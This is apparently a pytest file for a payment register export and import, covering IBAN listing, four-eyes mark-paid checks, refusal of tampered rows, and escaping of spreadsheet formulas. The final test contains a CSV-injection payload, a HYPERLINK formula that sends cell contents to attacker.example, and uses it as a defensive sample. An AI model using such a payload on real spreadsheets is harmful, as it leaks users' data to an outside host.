"""The payment register: approved statements with bank accounts, as CSV and XLSX, and
the same file brought back to mark statements paid through the four-eyes pay path."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from server.ledger.accounting import AuditEntry, StoredStatement
from server.money.bank import kz_iban, set_account
from server.money.documents.register import (
    MAX_BYTES,
    RegisterError,
    build_register,
    mark_paid,
    read_payments,
    register_csv,
    register_xlsx,
)
from server.people.permissions import Permission
from tests.server.money.test_statements import setup_month
from tests.support.accounts import BIN_A, operator, payment_team

IBAN = kz_iban("722", "S000012345678")


def csv_rows(data: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def with_reference(data: bytes, reference: str, **changes: str) -> bytes:
    rows = csv_rows(data)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    for row in rows:
        writer.writerow(row | {"payment_ref": reference} | changes)
    return out.getvalue().encode()


def test_register_lists_a_missing_account_then_the_account(
    tmp_path: Path, sessions: sessionmaker[Session]
) -> None:
    sid = setup_month(tmp_path, sessions)
    with sessions() as session:
        (row,) = build_register(session, "2026-03").rows
    assert (row.statement_id, row.problem, row.iban) == (sid, "no_bank_account", "")
    assert row.amount_kzt == Decimal("546731.72")
    with sessions.begin() as session:
        set_account(session, BIN_A, iban=IBAN, actor=operator(sessions, "ops"))
    with sessions() as session:
        register = build_register(session, "2026-03")
        stored = session.get(StoredStatement, sid)
        assert stored is not None
    (row,) = register.rows
    assert (row.problem, row.iban, row.contractor_bin) == ("", IBAN, BIN_A)
    assert register.payable_total == Decimal("546731.72")
    (plain,) = csv_rows(register_csv(register))
    assert plain["amount_kzt"] == "546731.72"
    assert (plain["sha256"], plain["iban"]) == (stored.sha256, IBAN)
    excel = register_csv(register, excel=True)
    assert excel.startswith("\ufeff".encode())
    (ru,) = csv_rows(excel, ";")
    assert ru["amount_kzt"] == "546731,72"
    ws = load_workbook(io.BytesIO(register_xlsx(register, lang="kk"))).active
    assert ws is not None
    values = [list(r) for r in ws.iter_rows(values_only=True)]
    assert values[0][0] == "2026-03 төлем тізілімі"
    keys = values[2]
    (data,) = [r for r in values if r[0] == sid]
    assert Decimal(repr(data[keys.index("amount_kzt")])) == Decimal("546731.72")
    assert data[keys.index("sha256")] == stored.sha256
    with sessions() as session:
        assert build_register(session, "2026-04").rows == ()


def test_mark_paid_from_the_register(tmp_path: Path, sessions: sessionmaker[Session]) -> None:
    sid = setup_month(tmp_path, sessions)
    team = payment_team(sessions)
    with sessions.begin() as session:
        set_account(session, BIN_A, iban=IBAN, actor=team.computer)
        sheet = register_csv(build_register(session, "2026-03"))
    unpaid = read_payments(sheet, "r.csv")
    assert [(o.state, o.message) for o in mark_paid(sessions, unpaid, actor=team.payer)] == [
        ("refused", "no payment_ref: not paid")
    ]
    hostile = {
        "amount": (
            with_reference(sheet, "PP-1", amount_kzt="546731.73"),
            team.payer,
            f"statement {sid}: amount 546731.73 is not the ledger's 546731.72",
        ),
        "hash": (with_reference(sheet, "PP-1", sha256="0" * 64), team.payer, "is not the ledger's"),
        "unknown": (
            with_reference(sheet, "PP-1", statement_id="999"),
            team.payer,
            "statement 999 does not exist",
        ),
        "approver pays": (
            with_reference(sheet, "PP-1"),
            operator(sessions, "head.of.payments", Permission.PAY),  # it may pay, not this
            "another account than the one that approved",
        ),
        "no permission": (
            with_reference(sheet, "PP-1"),
            operator(sessions, "clerk"),
            "does not hold the permission statements.pay",
        ),
        "junk amount": (with_reference(sheet, "PP-1", amount_kzt="1e6"), team.payer, "amount_kzt"),
    }
    for name, (data, actor, message) in hostile.items():
        (outcome,) = mark_paid(sessions, read_payments(data, "r.csv"), actor=actor)
        assert outcome.state == "refused", name
        assert message in outcome.message, name
    with sessions() as session:
        assert session.get(StoredStatement, sid).status == "approved"  # type: ignore[union-attr]
    # What Excel writes back in a Russian locale: BOM, ';', a decimal comma.
    excel = csv_rows(with_reference(sheet, "PP-2026-0412"))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(excel[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(r | {"amount_kzt": r["amount_kzt"].replace(".", ",")} for r in excel)
    back = ("\ufeff" + out.getvalue()).encode()
    (outcome,) = mark_paid(sessions, read_payments(back, "r.csv"), actor=team.payer)
    assert (outcome.state, outcome.statement_id) == ("paid", sid)
    (again,) = mark_paid(sessions, read_payments(back, "r.csv"), actor=team.payer)
    assert again.state == "already"
    with sessions() as session:
        row = session.get(StoredStatement, sid)
        assert row is not None
        assert (row.status, row.payment_ref, row.paid_by) == ("paid", "PP-2026-0412", "treasury")
        paid = session.scalars(select(AuditEntry).where(AuditEntry.action == "statement.paid"))
        assert len(paid.all()) == 1
        register = build_register(session, "2026-03", include_paid=True)
    # The XLSX comes back too (numbers as the spreadsheet keeps them).
    assert [r.payment_ref for r in register.rows] == ["PP-2026-0412"]
    (from_xlsx,) = read_payments(register_xlsx(register, lang="ru"), "r.xlsx")
    assert (from_xlsx.amount_kzt, from_xlsx.reference) == (Decimal("546731.72"), "PP-2026-0412")


def test_an_unreadable_register_is_refused_in_one_line() -> None:
    for data, message in (
        (b"\xff\xfe junk", "r.csv: not UTF-8 text"),
        (b"statement_id,amount_kzt\n1,2\n", "r.csv: column(s) missing: sha256, payment_ref"),
        (b"", "r.csv: empty"),
        (b"PK\x03\x04 not a zip", "r.csv: not a readable XLSX"),
        (b"x" * (MAX_BYTES + 1), "larger than 5 MB"),
    ):
        with pytest.raises(RegisterError, match=re.escape(message)):
            read_payments(data, "r.csv")
    (row,) = read_payments(
        b"statement_id,amount_kzt,sha256,payment_ref\n=1+1,1.00,ab,PP\n", "r.csv"
    )
    assert row.problem == "statement_id '=1+1' is not a statement number"


def test_names_never_become_formulas_in_the_files() -> None:
    """A name a spreadsheet would run (``=HYPERLINK(…)``) stays text in CSV and XLSX."""
    from dataclasses import replace

    from server.money.documents.register import Register, RegisterRow

    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    row = RegisterRow(
        statement_id=7,
        period="2026-03",
        kind="original",
        status="approved",
        contractor_bin=BIN_A,
        contractor_name=evil,
        iban=IBAN,
        bic="KCJBKZKX",
        bank_name="+bank",
        amount_kzt=Decimal("-1.50"),
        sha256="ab" * 32,
        payment_ref="",
        problem="",
    )
    register = Register("2026-03", (row, replace(row, statement_id=8, contractor_name="@SUM(1)")))
    (first, second) = csv_rows(register_csv(register))
    assert first["contractor_name"] == "'" + evil
    assert (first["bank_name"], second["contractor_name"]) == ("'+bank", "'@SUM(1)")
    assert first["amount_kzt"] == "-1.50"  # a number stays a number
    ws = load_workbook(io.BytesIO(register_xlsx(register, lang="en"))).active
    assert ws is not None
    cells = [c for r in ws.iter_rows() for c in r if c.value == evil]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
